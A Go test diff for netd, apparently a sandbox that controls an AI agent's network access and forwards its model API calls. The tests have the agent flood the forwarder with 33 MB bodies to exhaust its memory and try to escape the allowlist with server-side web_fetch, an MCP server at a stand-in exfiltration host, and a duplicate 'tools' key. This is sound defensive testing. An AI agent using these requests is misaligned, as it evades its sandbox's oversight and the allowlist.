@@ -3,6 +3,7 @@
 package e2e
 
 import (
+	"fmt"
 	"os"
 	"path/filepath"
 	"strings"
@@ -32,7 +33,7 @@ func upInjectedStandin(t *testing.T, project, manifest string) (*harness.H, *har
 	return h, api
 }
 
-// TestAttackModelForwarderMemory: the agent sends 32 requests of 33 MB at once to the model
+// TestAttackModelForwarderMemory: the agent sends 32 valid requests of 33 MB at once to the model
 // forwarder, half of them chunked, three times over. netd holds at most 64 MiB of request bodies
 // (the rest are answered 429 unread), so it keeps serving and the run ends normally with every
 // request logged; without the bound the OOM killer ends netd within a second or two (its 256 MiB
@@ -40,7 +41,9 @@ func upInjectedStandin(t *testing.T, project, manifest string) (*harness.H, *har
 func TestAttackModelForwarderMemory(t *testing.T) {
 	t.Parallel()
 	h, api := upInjectedStandin(t, "modelmem", "")
-	script := `head -c 33000000 /dev/zero | tr '\0' a > /tmp/big; ` +
+	// A valid Messages body: netd checks the JSON in place (no server tools) before it forwards.
+	script := `{ printf '{"model":"claude-test-1","max_tokens":1,"messages":[{"role":"user","content":"'; ` +
+		`head -c 33000000 /dev/zero | tr '\0' a; printf '"}]}'; } > /tmp/big; ` +
 		`for round in 1 2 3; do for i in $(seq 32); do curl -s -o /dev/null -w 'code %{http_code}\n' -m 60 -H 'content-type: application/json' ` +
 		`$([ $((i % 2)) = 0 ] && echo -H transfer-encoding:chunked) --data-binary @/tmp/big http://127.0.0.1:15480/v1/messages & done; wait; done | sort | uniq -c; ` +
 		`echo "after $(curl -s -m 10 -o /dev/null -w '%{http_code}' http://127.0.0.1:15480/v1/models)"`
@@ -95,5 +98,53 @@ func TestAttackModelHostThroughWildcard(t *testing.T) {
 	}
 	if !strings.Contains(out, "forwarder 404") {
 		t.Errorf("the forwarder no longer reaches the API (the stand-in answers the model list 404):\n%s", out)
+	}
+}
+
+// TestAttackModelServerTools: in injected mode the agent asks the API, through netd's forwarder,
+// to fetch a URL with its own web fetch tool, to connect to an MCP server, and to do the first
+// while hiding it behind a second "tools" member. netd refuses all three (403 for the server
+// tools, 400 for the ambiguous body) and the API never sees them; a request with a custom tool
+// passes. Without the refusal the API would reach the host the agent names, past the allowlist.
+func TestAttackModelServerTools(t *testing.T) {
+	t.Parallel()
+	h, api := upInjectedStandin(t, "modeltools", "")
+	msg := `{"model":"claude-test-1","max_tokens":16,"messages":[{"role":"user","content":"x"}],`
+	bodies := map[string]string{
+		"fetch":  msg + `"tools":[{"type":"web_fetch_20250910","name":"web_fetch"}]}`,
+		"mcp":    msg + `"mcp_servers":[{"type":"url","url":"https://mcp.exfil.example/sse","name":"x"}]}`,
+		"hidden": msg + `"tools":[{"type":"web_fetch_20250910","name":"web_fetch"}],"tools":[]}`,
+		"custom": msg + `"tools":[{"name":"Bash","input_schema":{"type":"object"}}]}`,
+	}
+	var script strings.Builder
+	for _, name := range []string{"fetch", "mcp", "hidden", "custom"} {
+		fmt.Fprintf(&script, "printf '%%s' '%s' > /tmp/%s.json; ", bodies[name], name)
+		fmt.Fprintf(&script, `echo "%s $(curl -s -m 10 -o /dev/null -w '%%{http_code}' -H 'content-type: application/json' --data-binary @/tmp/%s.json http://127.0.0.1:15480/v1/messages)"; `, name, name)
+	}
+	res := h.Abox("run", script.String())
+	out := agentOutput(res.Stdout)
+	if !res.OK() {
+		t.Fatalf("abox run: %s", res)
+	}
+	for _, want := range []string{"fetch 403", "mcp 403", "hidden 400", "custom 200"} {
+		if !strings.Contains(out, want) {
+			t.Errorf("want %q in the agent's output:\n%s", want, out)
+		}
+	}
+	posts := 0
+	for _, r := range api.Requests(t) {
+		if r.Method != "POST" {
+			continue
+		}
+		posts++
+		if b := string(r.Body); strings.Contains(b, "web_fetch") || strings.Contains(b, "mcp_servers") {
+			t.Errorf("the API received a server tool: %s", b)
+		}
+	}
+	if posts != 1 {
+		t.Errorf("the API received %d POSTs, want only the custom tool's", posts)
+	}
+	if !strings.Contains(res.Stderr, "model API: 4 requests") {
+		t.Errorf("the run summary does not count the 4 requests:\n%s", res.Stderr)
 	}
 }
